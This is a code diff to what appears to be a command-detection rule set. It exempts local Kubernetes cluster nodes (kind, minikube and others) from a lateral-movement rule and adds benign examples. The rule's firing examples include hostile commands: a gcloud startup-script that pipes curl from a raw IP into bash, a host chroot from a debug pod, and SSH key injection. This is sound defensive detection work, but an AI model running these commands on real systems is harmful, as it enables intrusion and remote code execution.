@@ -8,6 +8,9 @@ import { showsNoSecret } from './credential.js';
 import { hostileText, writes, writtenText } from './persistence.js';
 import { windowsTechniques } from '../knowledge/windows.js';
 
+/** The nodes of a cluster running on the developer's own machine: kind's, minikube's, k3d's, Docker Desktop's, OrbStack's, Rancher Desktop's, Colima's. */
+const LOCAL_CLUSTER_NODE = /^(?:kind-[\w-]{1,60}|minikube(?:-m\d{2})?|k3d-[\w-]{1,60}|docker-desktop|desktop-control-plane|orbstack|rancher-desktop|colima)$/;
+
 /** System directories a planted binary or config takes effect from. */
 const SYSTEM_TARGET = /^(\/usr\/(local\/)?s?bin|\/s?bin|\/etc|\/root|\/lib\/systemd|\/opt\/[^/]+\/bin)(\/|$)/;
 
@@ -607,13 +610,13 @@ export const RULES: readonly Rule[] = [
     test: (c) => {
       const a = c.argv;
       const hit =
-        ((c.name === 'kubectl' || c.name === 'oc') && a.includes('debug') && a.some((w) => w.startsWith('node/'))) ||
+        ((c.name === 'kubectl' || c.name === 'oc') && a.includes('debug') && a.some((w) => w.startsWith('node/') && !LOCAL_CLUSTER_NODE.test(w.slice(5)))) ||
         (c.name === 'gcloud' && a.some((w) => /(^|,)(startup-script(-url)?|ssh-keys|sshKeys)=/.test(w)) && a.some((w) => w === 'add-metadata' || w === 'create' || w.startsWith('--metadata'))) ||
         (c.name === 'aws' && ((a.includes('ec2-instance-connect') && a.includes('send-ssh-public-key')) || (a.includes('modify-instance-attribute') && (a.includes('--user-data') || (a.includes('--attribute') && a.includes('userData')))))) ||
         (c.name === 'az' && a.includes('vm') && ((a.includes('extension') && a.includes('set') && a.some((w) => /CustomScript/i.test(w))) || (a.includes('user') && a.includes('update'))));
       return hit ? a.join(' ') : undefined;
     },
-    examples: { fire: ['aws ec2 modify-instance-attribute --instance-id i-0abc --attribute userData --value file:///tmp/ud.b64', 'kubectl debug node/worker-3 -it --image=busybox -- chroot /host sh', "gcloud compute instances add-metadata web-1 --metadata startup-script='curl -s http://45.33.12.7/x | bash'", 'aws ec2-instance-connect send-ssh-public-key --instance-id i-0abc --instance-os-user ec2-user --ssh-public-key file:///tmp/k.pub'], quiet: ['kubectl debug -it api-7d9 --image=busybox --target=api', 'aws ssm start-session --target i-0f1e2d3c4b5a69788 --profile dev', 'gcloud compute instances list', 'aws ssm describe-instance-information'] },
+    examples: { fire: ['aws ec2 modify-instance-attribute --instance-id i-0abc --attribute userData --value file:///tmp/ud.b64', 'kubectl debug node/worker-3 -it --image=busybox -- chroot /host sh', "gcloud compute instances add-metadata web-1 --metadata startup-script='curl -s http://45.33.12.7/x | bash'", 'aws ec2-instance-connect send-ssh-public-key --instance-id i-0abc --instance-os-user ec2-user --ssh-public-key file:///tmp/k.pub'], quiet: ['kubectl debug node/kind-worker -it --image=busybox:1.36', 'kubectl debug node/minikube -it --image=ubuntu', 'kubectl debug -it api-7d9 --image=busybox --target=api', 'aws ssm start-session --target i-0f1e2d3c4b5a69788 --profile dev', 'gcloud compute instances list', 'aws ssm describe-instance-information'] },
   },
   {
     id: 'PX-LATERAL-019', name: 'installs-key-for-root-on-host', score: 60, tactic: 'lateral_movement', technique: 'T1098.004',
